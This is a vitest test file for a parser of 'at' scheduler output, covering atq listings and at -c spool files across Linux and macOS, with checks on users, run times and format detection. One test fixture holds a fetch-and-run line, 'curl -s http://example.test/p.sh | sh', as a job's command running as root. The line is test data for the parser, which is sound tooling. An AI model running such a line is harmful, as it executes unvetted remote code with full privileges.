import { describe, expect, it } from 'vitest';
import { atParser } from './at';
import { cronParser } from './cron';
import { ParseError } from './types';
import { readSample } from '@/lib/testing/samples';

const enc = (s: string) => new TextEncoder().encode(s);
/** The at sample is a markdown page of excerpts; each fenced block is one capture. */
const blocks = new TextDecoder()
  .decode(readSample('at/at_job_and_atq_excerpts.md'))
  .split('```')
  .filter((_, i) => i % 2 === 1)
  .map((b) => b.replace(/^\n/, ''));

describe('atq output', () => {
  it('Linux atq with a pasted prompt: job, date, queue, user', () => {
    const r = atParser.parse(enc(blocks[0]), {});
    expect(r.records).toHaveLength(1);
    expect(r.records[0]).toMatchObject({
      family: 'at',
      kind: 'atq',
      name: 'at:1',
      command: '',
      runAs: 'root',
      nextRunAt: '2009-09-25T17:30:00',
      schedule: 'Fri Sep 25 17:30:00 2009',
      description: 'queue a',
      line: 2,
      raw: '1\tFri Sep 25 17:30:00 2009 a root',
    });
    expect(r.warnings).toEqual([{ line: null, message: 'atq lists no commands: collect the spool files (at -c <id>) for them' }]);
    expect(r.os).toBe('linux');
  });

  it('CentOS vagrant atq: two jobs', () => {
    const r = atParser.parse(enc(blocks[1]), {});
    expect(r.records.map((x) => [x.name, x.runAs, x.nextRunAt])).toEqual([
      ['at:1', 'vagrant', '2016-02-22T08:23:00'],
      ['at:2', 'vagrant', '2016-02-22T08:31:00'],
    ]);
  });

  it('space-padded day "Jun  8"', () => {
    const r = atParser.parse(enc(blocks[2]), {});
    expect(r.records[0]).toMatchObject({ nextRunAt: '2019-06-08T16:16:00', runAs: 'sergio' });
    expect(r.records[0].triggers).toEqual([{ kind: 'time', raw: 'Sat Jun  8 16:16:00 2019', text: 'Once at 2019-06-08 16:16:00' }]);
  });

  it('macOS atq has no queue/user columns and implies macos', () => {
    const r = atParser.parse(enc(blocks[3]), {});
    expect(r.records.map((x) => [x.name, x.runAs, x.nextRunAt])).toEqual([
      ['at:26', null, '2021-04-27T00:46:00'],
      ['at:22', null, '2021-04-28T00:29:00'],
    ]);
    expect(r.os).toBe('macos');
  });

  it('junk lines are warnings; no atq line at all is a ParseError', () => {
    const r = atParser.parse(enc('3\tMon Mar  4 10:00:00 2024 b alice\nsomething else\n'), {});
    expect(r.records).toHaveLength(1);
    expect(r.warnings[1]).toEqual({ line: 2, message: 'not an atq line: something else' });
    expect(() => atParser.parse(enc('hello\nworld\n'), {})).toThrow(ParseError);
  });
});

describe('at spool files (at -c)', () => {
  it('openSUSE excerpt: truncated after the env lines -> no command, warning', () => {
    const r = atParser.parse(enc(blocks[4]), {});
    expect(r.records).toHaveLength(1);
    expect(r.records[0]).toMatchObject({ runAs: 'roberto', command: '', description: 'submitted by roberto' });
    expect(r.warnings[0].message).toMatch(/no command/);
  });

  it('Debian spool file: heredoc command, uid user, run time from the file name', () => {
    const spool = blocks[6].slice(blocks[6].indexOf('#!/bin/sh'));
    const r = atParser.parse(enc(spool), { fileName: '/var/spool/cron/atjobs/a0000c01c6f2b1' });
    expect(r.warnings).toEqual([]);
    expect(r.records).toHaveLength(1);
    expect(r.records[0]).toMatchObject({
      family: 'at',
      kind: 'at_job',
      name: 'at:12',
      command: '/usr/local/bin/rollback-release --to v4.2.1',
      runAs: 'deploy',
      nextRunAt: new Date(0x01c6f2b1 * 60_000).toISOString(),
      line: 17,
    });
    expect(r.records[0].raw).toBe(spool);
  });

  it('plain at job: command lines after the cd preamble; uid 0 runs as root even when mailed to a user', () => {
    const text = [
      '#!/bin/sh',
      '# atrun uid=0 gid=0',
      '# mail csaby 0',
      'umask 22',
      'SHELL=/bin/sh; export SHELL',
      'cd /private/tmp || {',
      "\t echo 'Execution directory inaccessible' >&2",
      '\t exit 1',
      '}',
      'curl -s http://example.test/p.sh | sh',
      'rm -f /tmp/x',
      '',
    ].join('\n');
    const r = atParser.parse(enc(text), { fileName: 'jobs/a00001019d0f31' });
    expect(r.records[0]).toMatchObject({
      runAs: 'root',
      command: 'curl -s http://example.test/p.sh | sh\nrm -f /tmp/x',
      line: 10,
      name: 'at:1',
      description: 'submitted by csaby',
    });
  });

  it('sniff: spool files and atq high, crontab/JSON/CSV low; cron does not claim at files', () => {
    expect(atParser.sniff(blocks[4], {})).toBeGreaterThan(0.9);
    expect(atParser.sniff(blocks[1].split('\n').slice(1).join('\n'), {})).toBeGreaterThan(0.85);
    expect(atParser.sniff('0 1 * * * /bin/a\n', {})).toBe(0);
    expect(atParser.sniff('{"a": 1}', {})).toBe(0);
    expect(atParser.sniff('"TaskName","Next Run Time"\n', {})).toBe(0);
    expect(cronParser.sniff(blocks[4], {})).toBeLessThan(atParser.sniff(blocks[4], {}));
  });
});
